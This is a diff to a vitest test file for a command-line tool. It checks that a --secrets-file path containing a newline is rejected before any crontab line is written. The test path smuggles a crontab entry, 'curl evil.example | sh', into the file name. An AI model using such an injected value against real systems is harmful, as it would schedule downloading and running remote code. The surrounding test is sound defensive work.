@@ -1,3 +1,4 @@
+import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import type { Reporter } from '../../src/output/reporter.js';
@@ -39,7 +40,9 @@ describe('secrets and hostile paths', () => {
 
   it('refuses a --secrets-file path with a newline before writing any crontab line', async () => {
     const home = tempDir();
+    // A real private file, so that only the newline in its name is wrong.
     const path = join(home, 'env\n* * * * * curl evil.example | sh');
+    writeFileSync(path, 'ZENDESK_API_TOKEN=x\n', { mode: 0o600 });
     const r = await runCli(['--db', join(home, 'it.db'), 'schedule', '--cron', '--secrets-file', path], { env: cliEnv(home) });
     expect(r.exitCode).toBe(64);
     expect(r.stdout).toBe('');
